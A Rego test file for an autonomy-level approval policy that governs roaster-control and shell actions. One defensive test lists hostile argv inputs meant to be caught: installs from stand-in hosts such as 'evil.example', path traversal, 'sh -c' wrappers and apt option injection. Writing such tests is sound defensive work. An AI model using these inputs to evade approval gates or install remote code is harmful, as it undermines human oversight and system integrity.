package interlock.policy_test

import data.interlock.policy
import rego.v1

act(kind, params, level) := {
	"action": {"kind": kind, "target": "t", "params": params},
	"context": {"level": level, "now": 0},
}

# A table-driven helper: each test states one effect per line. The `with` lives here so the
# tests read as a table; Regal would have it in every test rule.
effect(kind, params, level) := e if {
	# regal ignore:with-outside-test-context
	e := policy.decision.effect with input as act(kind, params, level)
}

test_l1_l2_recommend_only if {
	every level in ["L1", "L2"] {
		d := policy.decision with input as act("roaster.set_power", {"value": 10}, level)
		d.effect == "deny"
		d.recommendation == true
		d.rules == ["policy.level.recommend_only"]
	}
}

test_l3_requires_approval_for_everything_but_abort if {
	effect("roaster.abort", {}, "L3") == "allow"
	every kind in [
		"roaster.set_power", "roaster.set_fan", "roaster.set_drum", "roaster.cooling_cycle",
		"roaster.emergency_shutdown",
	] {
		effect(kind, {}, "L3") == "require_approval"
	}
}

test_abort_always_allowed if {
	every level in ["L1", "L2", "L3", "L3+", "L4", "L4+", "L5"] {
		effect("roaster.abort", {}, level) == "allow"
	}
}

test_l3_plus_whitelist if {
	effect("roaster.set_power", {"value": 10}, "L3+") == "allow"
	effect("roaster.set_fan", {"value": 3}, "L3+") == "allow"
	effect("roaster.set_drum", {"rpm": 60}, "L3+") == "require_approval"
}

test_l4_veto_window if {
	effect("roaster.set_drum", {"rpm": 60}, "L4") == "allow"
	d := policy.decision with input as act("roaster.cooling_cycle", {}, "L4")
	d.effect == "require_approval"
	d.approval.count == 0
	d.approval.veto_window_seconds == 30
}

test_critical_needs_two_approvers_even_at_veto_levels if {
	d := policy.decision with input as act("roaster.preheat", {"target_temp": 200}, "L4")
	d.effect == "require_approval"
	d.approval.count == 2
	not d.approval.veto_window_seconds
	effect("roaster.preheat", {"target_temp": 200}, "L4+") == "allow"
}

test_l5_allows_all_but_manual_only if {
	effect("roaster.emergency_shutdown", {}, "L5") == "allow"
	effect("shell.exec", {"argv": ["/usr/bin/make", "build"]}, "L5") == "require_approval"
	effect("shell.exec", {"argv": ["/usr/bin/ls"]}, "L5") == "allow"
}

test_shell_classification if {
	effect("shell.exec", {"argv": ["/usr/bin/which", "git"]}, "L3+") == "allow"
	effect("shell.exec", {"argv": ["/bin/ls", "-la"]}, "L3+") == "allow"
	effect("shell.exec", {"argv": ["/usr/local/bin/brew", "install", "node"]}, "L3+") == "allow"
	effect("shell.exec", {"argv": ["/usr/bin/apt", "install", "jq", "ripgrep"]}, "L3+") == "allow"
	effect("shell.exec", {"argv": ["/usr/local/bin/brew", "uninstall", "node"]}, "L3+") == "require_approval"
	effect("shell.exec", {"argv": ["/usr/bin/ls"]}, "L3") == "require_approval"
}

test_only_system_binaries_by_absolute_path_are_safe if {
	every argv in [
		["ls"],
		["./ls"],
		["/tmp/x/ls"],
		["/usr/bin/../../tmp/ls"],
		["/usr/bin/x/ls"],
		["/usr/bin//ls"],
		["/usr/bin/env", "ls"],
		["/usr/bin/nice", "ls", "-la"],
		["/bin/sh", "-c", "ls"],
		["/usr/bin/python3", "-c", "print(1)"],
		["/usr/bin/apt", "install", "./evil.deb"],
		["/usr/bin/apt", "install", "evil.deb"],
		["/usr/local/bin/brew", "install", "https://evil.example/x.rb"],
		["/usr/bin/apt", "install", "-o", "APT::x=y", "jq"],
		["/usr/bin/apt", "install", "http:evil"],
		["/usr/bin/apt", "install", "libc6-"],
		["/usr/bin/apt", "install", "jq+"],
		["/usr/bin/apt", "install", "lib*"],
		["/usr/bin/apt", "install", "jq=1.6"],
	] {
		effect("shell.exec", {"argv": argv}, "L3+") == "require_approval"
	}
}

test_radio_mode_aliases if {
	effect("roaster.set_power", {"value": 1}, "manual_assist") == "deny"
	effect("roaster.set_power", {"value": 1}, "semi_auto") == "require_approval"
	effect("roaster.set_drum", {"rpm": 1}, "auto_with_human_override") == "allow"
	effect("roaster.preheat", {"target_temp": 150}, "full_auto_guardrailed") == "allow"
	effect("roaster.emergency_shutdown", {}, "lights_out_overnight") == "allow"
}

test_unknown_level_and_kind_deny if {
	d := policy.decision with input as act("roaster.set_power", {"value": 1}, "L9")
	d.rules == ["policy.level.unknown"]
	d2 := policy.decision with input as act("nope.kind", {}, "L3")
	d2.rules == ["policy.catalog.unknown_kind"]
}

test_missing_level_denies if {
	d := policy.decision with input as {"action": {"kind": "roaster.set_power", "params": {"value": 1}}}
	d.effect == "deny"
}

test_approval_by_risk if {
	low := policy.decision with input as act("roaster.set_power", {"value": 1}, "L3")
	low.approval == {"count": 1, "roles": ["operator", "admin"], "timeout_seconds": 300}
	high := policy.decision with input as act("shell.exec", {"argv": ["/usr/bin/make"]}, "L3")
	high.approval.timeout_seconds == 600
}
